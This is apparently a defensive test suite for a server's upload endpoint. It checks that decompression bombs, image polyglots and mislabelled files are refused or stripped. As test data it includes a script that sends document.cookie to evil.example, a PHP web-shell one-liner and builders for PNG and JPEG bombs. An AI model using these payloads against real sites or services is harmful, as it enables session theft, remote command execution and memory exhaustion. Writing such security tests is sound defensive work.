import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { deflateSync, crc32 } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import sharp from 'sharp';
import { buildApp } from '@paht/graphql-server';
import type { FastifyInstance } from 'fastify';
import { createFixtureTenant } from '../../../core/test/support/fixture-tenant.js';
import { openTestDatabase, testContext, type TestDatabase } from '../../../core/test/support/test-database.js';

// Hostile files over real HTTP: decompression bombs (a few kilobytes that
// decode to gigabytes), polyglots (one file that is an image and also HTML,
// a script or an archive), and wrong types behind right names. Each is
// refused with a typed error before it is decoded, storing nothing, or
// stored re-encoded from its pixels with nothing else of it kept.

const MONDAY_9AM = new Date('2026-03-02T02:00:00Z');

let tdb: TestDatabase;
let app: FastifyInstance;
let base: string;
let dir: string;

// ---------------------------------------------------------------- files

/** One PNG chunk: length, type, data, CRC. */
function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

/**
 * A 1-bit greyscale PNG of `size` × `size` black pixels, complete (`rows`
 * = size) or with its first `rows` only: 20 000² is 400 megapixels (1.2 GB
 * once decoded to RGB) in about 50 kB.
 */
function pngBomb(size: number, rows = size): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(size, 0);
  ihdr.writeUInt32BE(size, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const row = Math.ceil(size / 8) + 1; // filter byte + packed pixels
  const raw = Buffer.alloc(row * rows); // zeros: filter 0, black pixels
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw, { level: 9 })), chunk('IEND', Buffer.alloc(0))]);
}

/** A real small JPEG whose frame header (SOF0) claims `width` × `height`. */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(await sharp({ create: { width: 64, height: 64, channels: 3, background: '#336699' } }).jpeg({ progressive: false }).toBuffer());
  for (let o = 2; o < jpeg.length; ) {
    const marker = jpeg[o + 1]!;
    if (marker === 0xc0) {
      jpeg.writeUInt16BE(height, o + 5);
      jpeg.writeUInt16BE(width, o + 7);
      return jpeg;
    }
    o += 2 + jpeg.readUInt16BE(o + 2);
  }
  throw new Error('no SOF0');
}

const HTML = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
const ZIP = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(26), Buffer.from('evil.php<?php system($_GET["c"]); ?>', 'latin1')]);

async function smallPhoto(format: 'jpeg' | 'png'): Promise<Buffer> {
  return sharp({ create: { width: 80, height: 60, channels: 3, background: '#aa3300' } })[format]().toBuffer();
}

// ---------------------------------------------------------------- HTTP

interface UploadAnswer {
  upload?: { id: string; kind: string; mimeType: string; byteSize: number; width: number | null; height: number | null; previewUrl: string | null };
  error?: { code: string; message: string };
}

async function upload(body: Buffer, type: string, name: string) {
  const started = performance.now();
  const response = await fetch(`${base}/uploads`, {
    method: 'POST',
    headers: { 'content-type': type, 'x-tenant': 'bomb', 'x-file-name': encodeURIComponent(name) },
    body: new Uint8Array(body),
  });
  return { status: response.status, json: (await response.json()) as UploadAnswer, ms: performance.now() - started };
}

async function storedFiles(): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  return entries.filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name)).sort();
}

function storedPath(uploadId: string): string {
  const claims = JSON.parse(Buffer.from(uploadId.split('.')[1]!, 'base64url').toString()) as { tid: string; sub: string };
  return join(dir, claims.tid, claims.sub, 'original');
}

beforeAll(async () => {
  tdb = await openTestDatabase();
  const ctx = testContext(tdb.db, MONDAY_9AM);
  await createFixtureTenant(ctx, 'bomb', 'BO');
  dir = await mkdtemp(join(tmpdir(), 'paht-uploads-abuse-'));
  app = await buildApp({ core: ctx, uploadsDir: dir, redisUrl: null, rateLimits: false });
  base = await app.listen({ port: 0, host: '127.0.0.1' });
});

afterAll(async () => {
  await app?.close();
  await tdb?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('decompression bombs', () => {
  it.each([
    // Over our 64-megapixel limit and under sharp's own default (268 MP): fails if ours goes.
    ['an 81-megapixel PNG of 10 kB', () => Promise.resolve(pngBomb(9000)), 'image/png', 'photo.png'],
    ['a 400-megapixel PNG of 50 kB', () => Promise.resolve(pngBomb(20_000)), 'image/png', 'photo.png'],
    ['a 10-gigapixel PNG header', () => Promise.resolve(pngBomb(100_000, 10)), 'image/png', 'photo.png'],
    ['a JPEG claiming 65 000 × 65 000', () => jpegClaiming(65_000, 65_000), 'image/jpeg', 'photo.jpg'],
  ])('refuses %s with 413 TOO_LARGE before decoding it, storing nothing', async (_name, make, type, name) => {
    const body = await make();
    expect(body.length).toBeLessThan(100_000);
    const files = await storedFiles();
    const rss = process.memoryUsage().rss;
    const answer = await upload(body, type, name);
    expect(answer.status, JSON.stringify(answer.json)).toBe(413);
    expect(answer.json.error).toMatchObject({ code: 'TOO_LARGE', message: expect.stringMatching(/^Ảnh có quá nhiều điểm ảnh .*\/ The image has too many pixels/) });
    expect(await storedFiles()).toEqual(files);
    // Decoding would take gigabytes and seconds; the header check takes neither.
    expect(process.memoryUsage().rss - rss).toBeLessThan(256 * 1024 * 1024);
    console.log(`${_name}: ${body.length} bytes refused in ${answer.ms.toFixed(0)} ms`);
  });
});

describe('polyglots', () => {
  it.each([
    ['a JPEG followed by HTML and a ZIP archive', 'jpeg', 'image/jpeg', 'photo.jpg'],
    ['a PNG followed by HTML and a ZIP archive', 'png', 'image/png', 'photo.png'],
  ] as const)('keeps only the pixels of %s', async (_name, format, type, name) => {
    const body = Buffer.concat([await smallPhoto(format), Buffer.from(HTML), ZIP]);
    const answer = await upload(body, type, name);
    expect(answer.status, JSON.stringify(answer.json)).toBe(201);
    const stored = await readFile(storedPath(answer.json.upload!.id));
    for (const payload of ['<script', '<html', 'PK\u0003\u0004', '<?php', 'evil']) expect(stored.includes(payload), payload).toBe(false);
    expect(await sharp(stored).metadata()).toMatchObject({ format, width: 80, height: 60 });
  });

  it('keeps no text chunk of a PNG carrying a script', async () => {
    const png = await smallPhoto('png');
    const iend = png.length - 12;
    const text = chunk('tEXt', Buffer.from(`Comment\u0000${HTML}`, 'latin1'));
    const body = Buffer.concat([png.subarray(0, iend), text, png.subarray(iend)]);
    expect((await sharp(body).metadata()).format).toBe('png');
    const answer = await upload(body, 'image/png', 'photo.png');
    expect(answer.status).toBe(201);
    expect((await readFile(storedPath(answer.json.upload!.id))).includes('<script')).toBe(false);
  });

  it.each([
    ['HTML named photo.png', Buffer.from(`${HTML}\n`), 'image/png', 'photo.png'],
    ['an SVG with a script named photo.png', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), 'image/png', 'photo.png'],
    ['a JPEG signature followed by HTML', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML)]), 'image/jpeg', 'photo.jpg'],
    ['a PNG signature followed by HTML', Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(HTML)]), 'image/png', 'photo.png'],
    ['a ZIP archive named photo.jpg', ZIP, 'image/jpeg', 'photo.jpg'],
    ['a PDF named photo.jpg', Buffer.from('%PDF-1.7\n1 0 obj << /JS (app.alert(1)) >> endobj\n%%EOF'), 'image/jpeg', 'photo.jpg'],
    ['a GIF named photo.jpg', Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'), 'image/jpeg', 'photo.jpg'],
    ['a Windows executable named video.mp4', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]), 'video/mp4', 'video.mp4'],
  ])('refuses %s with 415 UNSUPPORTED_TYPE, storing nothing', async (_name, body, type, name) => {
    const files = await storedFiles();
    const answer = await upload(body, type, name);
    expect(answer.status, JSON.stringify(answer.json)).toBe(415);
    expect(answer.json.error?.code).toBe('UNSUPPORTED_TYPE');
    expect(await storedFiles()).toEqual(files);
  });
});

describe('wrong types behind right names', () => {
  it('stores a JPEG sent as video/mp4 named clip.mp4 as the JPEG photo it is', async () => {
    const answer = await upload(await smallPhoto('jpeg'), 'video/mp4', 'clip.mp4');
    expect(answer.status).toBe(201);
    expect(answer.json.upload).toMatchObject({ kind: 'PHOTO', mimeType: 'image/jpeg', width: 80, height: 60 });
  });
});
